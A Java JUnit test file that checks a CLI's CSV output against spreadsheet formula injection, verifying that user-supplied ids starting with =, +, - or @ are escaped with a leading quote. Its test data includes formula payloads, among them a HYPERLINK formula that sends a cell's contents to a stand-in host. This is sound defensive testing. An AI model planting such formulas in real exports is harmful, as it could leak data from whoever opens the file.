package org.employmentlinkage.cli;

import static org.assertj.core.api.Assertions.assertThat;

import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.CsvRecord;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Formula injection (docs/cli.md, "linkage batch", Output; OWASP, "CSV Injection"): a CSV cell that
 * starts with {@code =}, {@code +}, {@code -}, {@code @}, a tab or a carriage return is a formula
 * to Excel and WPS. In the CSV output, a cell of user text (the {@code id} column) that starts so
 * is written with a single quote {@code '} before it, unless {@code --no-escape-formulas}; cells
 * the program writes itself, and JSON output, are left as they are.
 */
class BatchFormulaTest {
  /** Ids as a hostile spreadsheet would hold them, with what the CSV output must hold. */
  private static final List<String[]> IDS =
      List.of(
          new String[] {"=1+1", "'=1+1"},
          new String[] {"+SUM(A1:A9)", "'+SUM(A1:A9)"},
          new String[] {"-2+3", "'-2+3"},
          new String[] {"@SUM(1)", "'@SUM(1)"},
          new String[] {
            "=HYPERLINK(\"http://x.example/?\"&B2)", "'=HYPERLINK(\"http://x.example/?\"&B2)"
          },
          new String[] {"P-1", "P-1"},
          new String[] {"'quoted", "'quoted"},
          new String[] {"职工=1", "职工=1"});

  @TempDir Path dir;

  private Path input(String header, String rest) throws IOException {
    StringBuilder csv = new StringBuilder(header).append('\n');
    for (String[] id : IDS) {
      // RFC 4180 quoting, so that quotes and commas reach the reader intact
      csv.append('"').append(id[0].replace("\"", "\"\"")).append('"').append(rest).append('\n');
    }
    Path p = dir.resolve("in.csv");
    Files.writeString(p, csv.toString(), StandardCharsets.UTF_8);
    return p;
  }

  private static CliRun.Result batch(Path in, Path out, String... more) {
    return CliRun.run(
        Stream.concat(
                Stream.of(
                    "batch",
                    "--input",
                    in.toString(),
                    "--output",
                    out.toString(),
                    "--date",
                    "2025-12-01"),
                Stream.of(more))
            .toArray(String[]::new));
  }

  private static List<String> idColumn(Path csv) throws IOException {
    List<String> ids = new ArrayList<>();
    try (CsvReader<CsvRecord> r = CsvReader.builder().ofCsvRecord(csv, StandardCharsets.UTF_8)) {
      for (CsvRecord rec : r) {
        ids.add(rec.getField(1));
      }
    }
    return ids.subList(1, ids.size());
  }

  @Test
  void peopleIdsThatStartAFormulaAreNeutralised() throws IOException {
    Path out = dir.resolve("groups.csv");
    CliRun.Result r = batch(input("id,education", ",本科"), out);

    assertThat(r.exitCode()).isZero();
    assertThat(idColumn(out)).containsExactlyElementsOf(IDS.stream().map(i -> i[1]).toList());
    // the program's own cells are untouched (本科 without a graduation date: undetermined, since
    // 离校2年内 needs the date; docs/adr/0009-college-graduate-time-limit.md); only the id gets its
    // quote
    assertThat(Files.readAllLines(out, StandardCharsets.UTF_8).get(1))
        .startsWith("2,'=1+1,2025-12-01,UNDETERMINED,")
        .containsOnlyOnce("'");
  }

  @Test
  void projectIdsToo() throws IOException {
    Path out = dir.resolve("projects.csv");
    CliRun.Result r =
        batch(input("id,totalInvestment,region", ",1亿元,210281"), out, "--kind", "projects");

    assertThat(r.exitCode()).isZero();
    assertThat(idColumn(out)).containsExactlyElementsOf(IDS.stream().map(i -> i[1]).toList());
  }

  @Test
  void theOptionTurnsItOff() throws IOException {
    Path out = dir.resolve("groups.csv");
    CliRun.Result r = batch(input("id,education", ",本科"), out, "--no-escape-formulas");

    assertThat(r.exitCode()).isZero();
    assertThat(idColumn(out)).containsExactlyElementsOf(IDS.stream().map(i -> i[0]).toList());
  }

  @Test
  void jsonOutputIsLeftAsItIs() throws IOException {
    Path out = dir.resolve("groups.jsonl");
    CliRun.Result r = batch(input("id,education", ",本科"), out);

    assertThat(r.exitCode()).isZero();
    List<String> ids = new ArrayList<>();
    for (String line : Files.readAllLines(out, StandardCharsets.UTF_8)) {
      ids.add(new com.fasterxml.jackson.databind.ObjectMapper().readTree(line).get("id").asText());
    }
    assertThat(ids).containsExactlyElementsOf(IDS.stream().map(i -> i[0]).toList());
  }
}
